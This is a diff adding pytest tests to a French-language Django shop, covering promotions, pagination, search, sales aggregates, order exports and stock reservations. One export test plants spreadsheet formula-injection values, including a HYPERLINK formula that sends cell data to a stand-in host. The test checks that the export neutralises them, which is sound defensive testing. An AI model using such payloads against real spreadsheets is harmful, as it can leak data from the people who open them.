@@ -91,3 +91,411 @@ def test_produit_check_promotion_false_outside_window():
     )
 
     assert not produit.check_promotion
+
+
+@pytest.mark.django_db
+def test_produit_prix_effectif_rollover():
+    from shop.cron import PromotionRolloverCronJob
+
+    User = get_user_model()
+    user = User.objects.create_user(username="shopuser3", password="pwd")
+    cat_etab = CategorieEtablissement.objects.create(nom="Cat3", description="Desc")
+    cat_prod = CategorieProduit.objects.create(nom="ProdCat3", description="Desc", categorie=cat_etab)
+    etab = Etablissement.objects.create(
+        user=user, nom="Etab3", description="Desc", logo="logo3.png", couverture="cov3.png",
+        categorie=cat_etab, nom_du_responsable="Resp3", prenoms_duresponsable="Pren3",
+        adresse="Addr3", pays="Pays3", contact_1="333333", email="contact3@test.com",
+    )
+    produit = Produit.objects.create(
+        nom="Produit3", description="Desc", description_deal="Deal",
+        prix=100.0, prix_promotionnel=80.0, categorie=cat_prod, etablissement=etab,
+        date_debut_promo=date.today() - timedelta(days=3),
+        date_fin_promo=date.today() + timedelta(days=1),
+    )
+    assert produit.en_promotion and produit.prix_effectif == 80.0
+
+    # La promo se termine sans passer par save() : la tâche de nuit la bascule
+    Produit.objects.filter(id=produit.id).update(date_fin_promo=date.today() - timedelta(days=1))
+    PromotionRolloverCronJob().do()
+    produit.refresh_from_db()
+    assert not produit.en_promotion and produit.prix_effectif == 100.0
+
+    Produit.objects.filter(id=produit.id).update(date_fin_promo=date.today() + timedelta(days=2))
+    assert Produit.objects.rafraichir_promotions() == 1
+    produit.refresh_from_db()
+    assert produit.en_promotion and produit.prix_effectif == 80.0
+
+
+def _catalogue(username, nombre):
+    User = get_user_model()
+    user = User.objects.create_user(username=username, password="pwd")
+    cat_etab = CategorieEtablissement.objects.create(nom="Cat " + username, description="Desc")
+    cat_prod = CategorieProduit.objects.create(nom="ProdCat " + username, description="Desc", categorie=cat_etab)
+    etab = Etablissement.objects.create(
+        user=user, nom="Etab " + username, description="Desc", logo="logo.png", couverture="cov.png",
+        categorie=cat_etab, nom_du_responsable="Resp", prenoms_duresponsable="Pren",
+        adresse="Addr", pays="Pays", contact_1="000000", email=username + "@test.com",
+    )
+    produits = [
+        Produit.objects.create(
+            nom="Produit %d" % i, description="Desc", description_deal="Deal",
+            prix=100.0, categorie=cat_prod, etablissement=etab,
+        )
+        for i in range(nombre)
+    ]
+    return cat_prod, produits
+
+
+@pytest.mark.django_db
+def test_paginer_par_curseur_walks_the_catalog():
+    from shop.pagination import paginer_par_curseur
+
+    _, produits = _catalogue("pager", 15)
+    produits.reverse()
+    queryset = Produit.objects.filter(status=True)
+
+    page_1 = paginer_par_curseur(queryset)
+    assert list(page_1) == produits[:12]
+    assert page_1.has_next() and not page_1.has_previous()
+
+    page_2 = paginer_par_curseur(queryset, page_1.next_cursor)
+    assert list(page_2) == produits[12:]
+    assert page_2.has_previous() and not page_2.has_next()
+
+    retour = paginer_par_curseur(queryset, page_2.previous_cursor)
+    assert list(retour) == produits[:12]
+    assert list(paginer_par_curseur(queryset, "invalide")) == produits[:12]
+
+
+@pytest.mark.django_db
+def test_shop_page_query_count_does_not_grow_with_catalog(client, django_assert_max_num_queries):
+    from django.urls import reverse
+
+    cat_prod, _ = _catalogue("big", 30)
+    with django_assert_max_num_queries(16):
+        response = client.get(reverse('shop'))
+    assert len(response.context['produits']) == 12
+
+    response = client.get(reverse('categorie', args=[cat_prod.slug]))
+    assert response.context['produits'].has_next()
+
+
+@pytest.mark.django_db
+def test_search_ranks_name_matches_and_follows_updates(client):
+    from django.urls import reverse
+
+    from shop import search
+
+    cat_prod, produits = _catalogue("finder", 3)
+    pizza, burger, autre = produits
+    pizza.nom = "Pizza royale"
+    pizza.save()
+    burger.nom = "Burger maison"
+    burger.description = "Servi avec une pizza offerte"
+    burger.save()
+
+    assert search.rechercher("pizza") == [pizza, burger]
+    assert search.rechercher("piz") == [pizza, burger]
+    cat_prod.nom = "Restauration rapide"
+    cat_prod.save()
+    assert set(search.rechercher("restauration")) == {pizza, burger, autre}
+    assert [r["nom"] for r in search.autocompleter("bur")] == ["Burger maison"]
+
+    burger.delete()
+    assert search.rechercher("pizza") == [pizza]
+
+    response = client.get(reverse('search'), {'q': 'royale'})
+    assert list(response.context['produits']) == [pizza]
+    response = client.get(reverse('search_autocomplete'), {'q': 'piz'})
+    assert response.json()['resultats'] == [{'nom': 'Pizza royale', 'slug': pizza.slug}]
+
+
+@pytest.mark.django_db
+def test_ventes_journalieres_follow_orders_and_rebuild(client):
+    from django.urls import reverse
+
+    from customer.commandes import passer_commande
+    from customer.models import Customer, Panier, ProduitPanier
+    from shop import ventes
+    from shop.models import VenteJournaliere
+
+    _, (a1, a2) = _catalogue("vendeur_a", 2)
+    _, (b1,) = _catalogue("vendeur_b", 1)
+    acheteur = get_user_model().objects.create_user(username="acheteur", password="pwd")
+    customer = Customer.objects.create(user=acheteur, adresse="Addr", contact_1="000000")
+
+    for lignes in ([(a1, 2), (a2, 1), (b1, 3)], [(a1, 1)]):
+        panier = Panier.objects.create(customer=customer)
+        for produit, quantite in lignes:
+            ProduitPanier.objects.create(produit=produit, panier=panier, quantite=quantite)
+        passer_commande(panier.id, customer, transaction_id="T")
+
+    def cumuls():
+        return sorted(VenteJournaliere.objects.values_list(
+            'etablissement__nom', 'commandes', 'chiffre_affaires', 'unites'))
+
+    attendu = [("Etab vendeur_a", 2, 400.0, 4), ("Etab vendeur_b", 1, 300.0, 3)]
+    assert cumuls() == attendu
+    assert ventes.reconstruire() == 2
+    assert cumuls() == attendu
+
+    client.force_login(a1.etablissement.user)
+    response = client.get(reverse('dashboard'))
+    assert response.context['commandes_aujourdhui'] == 2
+    assert response.context['total_commandes'] == 2
+    assert [v.unites for v in response.context['ventes_30_jours']] == [4]
+
+
+@pytest.mark.django_db
+def test_commande_recu_inbox_pages_by_cursor_and_filters(client, django_assert_max_num_queries):
+    from django.urls import reverse
+
+    from customer.commandes import passer_commande
+    from customer.models import Commande, Customer, Panier, ProduitPanier
+
+    _, (pizza, burger) = _catalogue("resto", 2)
+    pizza.nom, burger.nom = "Pizza", "Burger"
+    pizza.save()
+    burger.save()
+    _, (autre,) = _catalogue("voisin", 1)
+    clients = []
+    for prenom, nom in (("Élodie", "Kouamé"), ("Marc", "Traoré")):
+        user = get_user_model().objects.create_user(username=prenom, first_name=prenom, last_name=nom,
+                                                    password="pwd")
+        clients.append(Customer.objects.create(user=user, adresse="Addr", contact_1="000000"))
+
+    for i in range(30):
+        panier = Panier.objects.create(customer=clients[i % 2])
+        ProduitPanier.objects.create(produit=pizza if i % 3 else burger, panier=panier)
+        ProduitPanier.objects.create(produit=autre, panier=panier, quantite=2)
+        passer_commande(panier.id, clients[i % 2], transaction_id="T%d" % i)
+
+    client.force_login(pizza.etablissement.user)
+    url = reverse('commande-reçu')
+    with django_assert_max_num_queries(12):
+        page_1 = client.get(url)
+    assert len(page_1.context['commandes']) == 25 and page_1.context['total'] == 30
+    with django_assert_max_num_queries(12):
+        page_2 = client.get(url, {'curseur': page_1.context['commandes'].next_cursor})
+    vues = [r.commande_id for r in page_1.context['commandes']] + [r.commande_id for r in page_2.context['commandes']]
+    assert len(set(vues)) == 30
+
+    assert client.get(url, {'client': 'elo'}).context['total'] == 15
+    assert client.get(url, {'client': 'Traore'}).context['total'] == 15
+    assert client.get(url, {'client': 'odie kou'}).context['total'] == 15
+    assert client.get(url, {'produit': 'burg'}).context['total'] == 10
+    assert client.get(url, {'client': 'marc', 'produit': 'bur'}).context['total'] == 5
+
+    commande = Commande.objects.get(transaction_id="T0")
+    commande.status = False
+    commande.save()
+    assert client.get(url, {'status': 'attente'}).context['total'] == 1
+
+    # Une commande à plusieurs lignes chez le même établissement s'affiche sans erreur
+    panier = Panier.objects.create(customer=clients[0])
+    ProduitPanier.objects.create(produit=pizza, panier=panier)
+    ProduitPanier.objects.create(produit=burger, panier=panier)
+    commande = passer_commande(panier.id, clients[0], transaction_id="T-multi")
+    assert client.get(reverse('commande-reçu-detail', args=[commande.id])).status_code == 200
+
+
+@pytest.mark.django_db
+def test_order_export_streams_csv_and_xlsx_with_inbox_filters(client, django_assert_max_num_queries):
+    import csv
+    import io
+    import zipfile
+
+    from django.core.management import call_command
+    from django.urls import reverse
+
+    from customer.commandes import passer_commande
+    from customer.models import Customer, Panier, ProduitPanier
+
+    _, (pizza,) = _catalogue("export", 1)
+    _, (autre,) = _catalogue("export-voisin", 1)
+    user = get_user_model().objects.create_user(username="acheteur", first_name="Élodie", last_name="Kouassi")
+    customer = Customer.objects.create(user=user, adresse="Addr", contact_1="000000")
+    for i in range(3):
+        panier = Panier.objects.create(customer=customer)
+        ProduitPanier.objects.create(produit=pizza, panier=panier, quantite=i + 1)
+        ProduitPanier.objects.create(produit=autre, panier=panier)
+        passer_commande(panier.id, customer, transaction_id="X%d" % i)
+
+    client.force_login(pizza.etablissement.user)
+    with django_assert_max_num_queries(6):
+        response = client.get(reverse('commande-reçu-export', args=['csv']), {'client': 'elo'})
+        contenu = b''.join(response.streaming_content).decode('utf-8-sig')
+    assert response['Content-Disposition'].startswith('attachment; filename="commandes-')
+    entete, *lignes = list(csv.reader(io.StringIO(contenu), delimiter=';'))
+    assert entete[0] == 'Commande' and len(lignes) == 3
+    # Seules les lignes de l'établissement, jamais celles du voisin
+    assert {ligne[8] for ligne in lignes} == {pizza.nom}
+    assert [ligne[9] for ligne in lignes] == ['1', '2', '3']
+    assert [float(ligne[11]) for ligne in lignes] == [100.0, 200.0, 300.0]
+    assert b''.join(client.get(reverse('commande-reçu-export', args=['csv']), {'client': 'marc'})
+                    .streaming_content).decode('utf-8-sig').count('\n') == 1
+
+    xlsx = b''.join(client.get(reverse('commande-reçu-export', args=['xlsx'])).streaming_content)
+    with zipfile.ZipFile(io.BytesIO(xlsx)) as archive:
+        feuille = archive.read('xl/worksheets/sheet1.xml').decode()
+    assert feuille.count('<row>') == 4 and 'Élodie Kouassi' in feuille
+    assert client.get(reverse('commande-reçu-export', args=['pdf'])).status_code == 404
+
+    # L'export complet est réservé à l'équipe
+    assert client.get(reverse('commandes-export', args=['csv'])).status_code == 302
+
+    sortie = io.StringIO()
+    call_command('exporter_commandes', stdout=sortie)
+    assert len(sortie.getvalue().strip().splitlines()) == 7
+
+
+@pytest.mark.django_db
+def test_order_export_csv_neutralises_formulas():
+    import csv
+    import io
+
+    from customer.commandes import passer_commande
+    from customer.models import Customer, Panier, ProduitPanier
+    from shop import export
+
+    _, (produit,) = _catalogue("formule", 1)
+    produit.nom = "@SUM(A1:A9)"
+    produit.save()
+    user = get_user_model().objects.create_user(
+        username="pirate", first_name='=HYPERLINK("http://exemple.test/?v="&A1,"Voir")', last_name="Diallo")
+    customer = Customer.objects.create(user=user, adresse="Addr", contact_1="000000")
+    panier = Panier.objects.create(customer=customer)
+    ProduitPanier.objects.create(produit=produit, panier=panier)
+    passer_commande(panier.id, customer, transaction_id="-1+2")
+
+    contenu = b''.join(export.en_csv(export.lignes_toutes())).decode('utf-8-sig')
+    _, ligne = list(csv.reader(io.StringIO(contenu), delimiter=';'))
+    assert ligne[5] == '\'=HYPERLINK("http://exemple.test/?v="&A1,"Voir") Diallo'
+    assert ligne[8] == "'@SUM(A1:A9)" and ligne[2] == "'-1+2"
+    assert float(ligne[11]) == 100.0
+
+
+def _acheteur(username):
+    from customer.models import Customer
+
+    user = get_user_model().objects.create(username=username)
+    return Customer.objects.create(user=user, adresse="Addr", contact_1="000000")
+
+
+@pytest.mark.django_db
+def test_stock_reservations_hold_commit_and_expire():
+    from django.utils import timezone
+
+    from customer.commandes import passer_commande
+    from customer.models import Panier, ProduitPanier
+    from shop import stock
+
+    _, (deal,) = _catalogue("flash", 1)
+    deal.quantite = 5
+    deal.save()
+    customer = _acheteur("client_stock")
+    panier, autre = Panier.objects.create(customer=customer), Panier.objects.create()
+
+    stock.reserver(panier, deal.id, 3)
+    with pytest.raises(stock.StockInsuffisant):
+        stock.reserver(autre, deal.id, 3)
+    stock.reserver(autre, deal.id, 2)
+    deal.nom = "Deal modifié"
+    deal.save()  # une édition du produit ne réécrit pas le compteur
+    deal.refresh_from_db()
+    assert (deal.quantite, deal.quantite_reservee) == (5, 5)
+
+    # L'autre panier abandonne : sa réservation expire et est rendue au stock
+    assert stock.liberer_expirees(timezone.now() + stock.DUREE_RESERVATION * 2) == 2
+    deal.refresh_from_db()
+    assert deal.quantite_reservee == 0
+
+    # La commande peut encore passer si le stock est là, réservation expirée ou non
+    ProduitPanier.objects.create(produit=deal, panier=panier, quantite=3)
+    passer_commande(panier.id, customer, transaction_id="S1")
+    deal.refresh_from_db()
+    assert (deal.quantite, deal.quantite_reservee) == (2, 0)
+
+    trop = Panier.objects.create(customer=customer)
+    ProduitPanier.objects.create(produit=deal, panier=trop, quantite=3)
+    with pytest.raises(stock.StockInsuffisant):
+        passer_commande(trop.id, customer, transaction_id="S2")
+    deal.refresh_from_db()
+    assert deal.quantite == 2 and trop.produit_panier.get().quantite == 3
+
+
+@pytest.mark.django_db(transaction=True)
+def test_concurrent_checkouts_never_oversell_a_super_deal():
+    import re
+    from io import StringIO
+
+    from django.core.management import call_command
+
+    from shop.models import Produit, Reservation
+
+    # SQLite en mémoire partagée verrouille par table : peu d'acheteurs suffisent ici,
+    # la commande se lance avec --acheteurs 500 sur une base PostgreSQL.
+    sortie = StringIO()
+    call_command('charge_stock', acheteurs=12, stock=7, stdout=sortie)
+    assert "Aucune survente." in sortie.getvalue()
+    # Les quatre acheteurs « expirés » (i % 3 == 0) ont une réservation : 4 × 2 unités au plus, stock 7
+    assert re.search(r"\((3|4) avec une réservation expirée\)", sortie.getvalue())
+    assert not Produit.objects.exists() and not Reservation.objects.exists()
+
+
+@pytest.mark.django_db
+def test_synthetic_dataset_is_reproducible_and_consistent(settings, tmp_path):
+    from django.db.models import F, Sum
+    from django.utils import timezone
+
+    from base.models import FichierMedia
+    from customer.models import Commande, ProduitPanier
+    from shop import search, synthetique
+    from shop.models import CommandeRecue, Favorite, VenteJournaliere
+
+    settings.MEDIA_ROOT = tmp_path
+    settings.PASSWORD_HASHERS = ["django.contrib.auth.hashers.MD5PasswordHasher"]
+    reference = timezone.now()
+    echelle = dict(categories=3, sous_categories=2, etablissements=4, produits=200, clients=30, paniers=5,
+                   commandes=120, favoris=50)
+
+    def empreinte():
+        return (
+            list(Produit.objects.order_by("id").values_list("nom", "prix", "prix_promotionnel", "date_debut_promo")),
+            list(Commande.objects.order_by("id").values_list("prix_total", "status", "date_add")),
+        )
+
+    comptes = synthetique.generer(graine=7, reference=reference, **echelle)
+    assert comptes["produits"] == Produit.objects.count() == 200
+    assert comptes["commandes"] == Commande.objects.count() == 120
+    assert comptes["favoris"] == Favorite.objects.count() == 50
+    assert ProduitPanier.objects.filter(commande__isnull=False).count() == comptes["lignes_commandes"]
+
+    # Colonnes que save() aurait calculées
+    for produit in Produit.objects.select_related("etablissement"):
+        assert produit.categorie_etab_id == produit.etablissement.categorie_id
+        assert produit.en_promotion == produit.check_promotion
+        assert produit.prix_effectif == (produit.prix_promotionnel if produit.en_promotion else produit.prix)
+    assert Produit.objects.filter(en_promotion=True).exists()
+
+    # Tables dérivées cohérentes avec les lignes
+    commande = Commande.objects.order_by("id").first()
+    lignes = ProduitPanier.objects.filter(commande=commande)
+    assert commande.prix_total == lignes.aggregate(t=Sum(F("quantite") * F("prix_unitaire")))["t"]
+    assert CommandeRecue.objects.filter(commande=commande).count() == len(
+        {l.produit.etablissement_id for l in lignes})
+    assert VenteJournaliere.objects.aggregate(n=Sum("unites"))["n"] == ProduitPanier.objects.filter(
+        commande__isnull=False).aggregate(n=Sum("quantite"))["n"]
+    if search.moteur() is not None:
+        assert search.rechercher(Produit.objects.first().nom.split()[0])
+    produit = FichierMedia.objects.get(nom=Produit.objects.first().image.name)
+    assert produit.references == 3 * 200
+
+    with pytest.raises(ValueError):
+        synthetique.generer(graine=7, reference=reference, **echelle)
+
+    attendu = empreinte()
+    get_user_model().objects.filter(username__startswith="synth7-").delete()
+    CategorieEtablissement.objects.all().delete()
+    synthetique.generer(graine=7, reference=reference, **echelle)
+    assert empreinte() == attendu